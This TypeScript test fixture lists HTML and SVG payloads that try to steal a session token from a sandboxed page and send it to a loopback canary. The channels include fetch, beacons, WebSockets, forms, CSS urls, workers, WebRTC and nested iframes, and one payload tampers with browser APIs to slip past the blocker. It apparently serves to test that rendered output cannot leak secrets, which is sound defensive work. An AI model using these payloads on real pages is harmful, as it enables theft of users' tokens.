// HTML and SVG with which a session tries to get the token of the page, or to reach an address.

/** `leaks`: the control sends the token; otherwise it only makes contact. */
export interface Attack {
  readonly name: string;
  readonly html: string;
  readonly leaks: boolean;
  /** As `image/svg+xml`. Default: HTML. */
  readonly isSVG?: boolean;
  /** The browser stops it, and shows that in place of the output. */
  readonly leavesFrame?: boolean;
}

/** Where the token is for a script in the page, in a document inside of it, and in a window that it opened. */
const TOKEN = `(() => { for (const w of [window, parent, top, opener]) { try { if (w?.sessionStorage["rlm-token"]) return w.sessionStorage["rlm-token"] } catch {} } return "" })()`;
const SAY = `"?" + encodeURIComponent(${TOKEN})`;

/** Wants to be found, so a script that ran says so. */
const RAN = `document.body.dataset.ran = "yes";`;
const script = (code: string): string => `<p>an output</p><script>try { ${code} } catch {} ${RAN}</script>`;

/** `port`: where the canary listens, on loopback. */
export function htmlAttacks(port: number): readonly Attack[] {
  const url = `http://127.0.0.1:${port}`;
  const rtc = `const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:127.0.0.1:${port}?transport=tcp", username: "u", credential: "c" }] }); p.createDataChannel("d"); p.createOffer().then((o) => p.setLocalDescription(o));`;
  const inner = `<script>${rtc}</scr" + "ipt>`
    .replaceAll('"turn', String.raw`\"turn`)
    .replaceAll('tcp"', String.raw`tcp\"`);
  const nested = `"${inner.replaceAll(/(?<!\\)"(u|c|d)"/g, String.raw`\"$1\"`)}"`;
  const leak = (name: string, code: string): Attack => ({ name, html: script(code), leaks: true });
  const touch = (name: string, html: string): Attack => ({ name, html: `<p>an output</p>${html}`, leaks: false });
  return [
    leak("a request with the token", `fetch("${url}/" + ${SAY}, { mode: "no-cors" })`),
    leak("a picture with the token in its address", `new Image().src = "${url}/" + ${SAY}`),
    leak("a beacon", `navigator.sendBeacon("${url}/" + ${SAY}, "x")`),
    leak("a WebSocket", `new WebSocket("ws://127.0.0.1:${port}/" + ${SAY})`),
    leak("an event stream", `new EventSource("${url}/" + ${SAY})`),
    leak("a synchronous request", `const r = new XMLHttpRequest(); r.open("GET", "${url}/" + ${SAY}, false); r.send()`),
    leak("leading the page elsewhere", `top.location = "${url}/" + ${SAY}`),
    { ...leak("leading its own frame elsewhere", `location = "${url}/" + ${SAY}`), leavesFrame: true },
    leak("a new window", `window.open("${url}/" + ${SAY})`),
    leak(
      "a form that sends itself",
      `const f = document.createElement("form"); f.action = "${url}/" + ${SAY}; f.method = "post"; document.body.append(f); f.submit()`,
    ),
    leak(
      "a link that presses itself",
      `const a = document.createElement("a"); a.href = "${url}/" + ${SAY}; a.target = "_top"; document.body.append(a); a.click()`,
    ),
    leak(
      "the ping of a link",
      `const a = document.createElement("a"); a.href = "#x"; a.ping = "${url}/" + ${SAY}; document.body.append(a); a.click()`,
    ),
    leak(
      "a style sheet with the token in its address",
      `const s = document.createElement("style"); s.textContent = "body{background:url(${url}/" + ${SAY} + ")}"; document.head.append(s)`,
    ),
    leak(
      "a document inside of it",
      `const i = document.createElement("iframe"); i.src = "${url}/" + ${SAY}; document.body.append(i)`,
    ),
    leak(
      "a worker",
      `new Worker(URL.createObjectURL(new Blob(["fetch('${url}/" + ${SAY} + "', { mode: 'no-cors' })"])))`,
    ),
    leak("a module from elsewhere", `import("${url}/" + ${SAY})`),
    touch("WebRTC", script(rtc)),
    touch(
      "WebRTC of a document inside of it",
      script(`const i = document.createElement("iframe"); i.srcdoc = ${nested}; document.body.append(i)`),
    ),
    touch(
      "WebRTC of a document that is part of the output",
      `<iframe srcdoc='<script>${rtc}</script>'></iframe>${script("")}`,
    ),
    touch(
      "WebRTC of a document in a shadow tree",
      script(
        `const h = document.createElement("div"); document.body.append(h); h.attachShadow({ mode: "closed" }).innerHTML = "<iframe></iframe>"; const i = document.createElement("iframe"); i.srcdoc = ${nested}; const s = document.createElement("div"); document.body.append(s); s.attachShadow({ mode: "closed" }).append(i)`,
      ),
    ),
    touch(
      "WebRTC of a document that a script writes",
      script(
        `document.write("<div><template shadowrootmode=closed><iframe srcdoc='" + ${nested} + "'></iframe></template></div>")`,
      ),
    ),
    touch(
      "WebRTC of a document at a script address",
      script(
        `const i = document.createElement("iframe"); i.src = "javascript:" + ${JSON.stringify(rtc)}; document.body.append(i)`,
      ),
    ),
    touch(
      "WebRTC of a document, after what stops it was replaced",
      script(
        `const undo = () => {}; MutationObserver.prototype.observe = undo; globalThis.MutationObserver = class { observe() {} }; Element.prototype.remove = undo; Document.prototype.querySelector = () => null; DocumentFragment.prototype.querySelector = () => null; const { apply } = Reflect; let shadow; Reflect.apply = (f, ...rest) => { shadow = f; return apply(f, ...rest) }; const d = document.createElement("div"); document.body.append(d); const root = d.attachShadow({ mode: "open" }); const i = document.createElement("iframe"); i.srcdoc = ${nested}; root.append(i); const j = i.cloneNode(); document.body.append(j); if (shadow) { const e = document.createElement("div"); document.body.append(e); apply(shadow, e, [{ mode: "open" }]).append(i.cloneNode()) }`,
      ),
    ),
    touch("a picture", `<img src="${url}/img">`),
    touch("a picture in a set", `<img srcset="${url}/img 2x, ${url}/img1 1x">`),
    touch("a video and its poster", `<video poster="${url}/poster" src="${url}/video" preload="auto"></video>`),
    touch("a style sheet", `<link rel="stylesheet" href="${url}/css">`),
    touch("an import of a style", `<style>@import url("${url}/import");</style>`),
    touch(
      "a background of a style attribute",
      `<div style="width: 9px; height: 9px; background: url(${url}/style)"></div>`,
    ),
    touch(
      "a font",
      `<style>@font-face { font-family: leak; src: url("${url}/font"); } p { font-family: leak; }</style>`,
    ),
    touch(
      "a selector that reads an attribute",
      `<input value="secret" /><style>input[value^="s"] { background: url("${url}/starts-with-s"); }</style>`,
    ),
    touch(
      "a preloaded file",
      `<link rel="preload" as="image" href="${url}/preload"><link rel="prefetch" href="${url}/prefetch">`,
    ),
    touch("a script from elsewhere", `<script src="${url}/script.js"></script>`),
    touch("a refresh", `<meta http-equiv="refresh" content="0; url=${url}/refresh">`),
    touch(
      "a frame, an object and an embedded file",
      `<iframe src="${url}/frame"></iframe><object data="${url}/object"></object>`,
    ),
    touch(
      "a button that is autofocused",
      `<button autofocus onfocus="fetch('${url}/focus', { mode: 'no-cors' })">x</button>`,
    ),
    {
      ...touch(
        "a picture in an SVG",
        `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><image href="${url}/svg" width="20" height="20"/></svg>`,
      ),
      isSVG: true,
    },
    {
      name: "a script in an SVG",
      html: `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><script>fetch("${url}/" + ${SAY}, { mode: "no-cors" })</script></svg>`,
      leaks: true,
      isSVG: true,
    },
    {
      name: "an event handler in an SVG",
      html: `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><image href="data:image/png;base64,AA" onerror='fetch("${url}/" + ${SAY.replaceAll("'", "&apos;")}, { mode: "no-cors" })' /></svg>`,
      leaks: true,
      isSVG: true,
    },
  ];
}
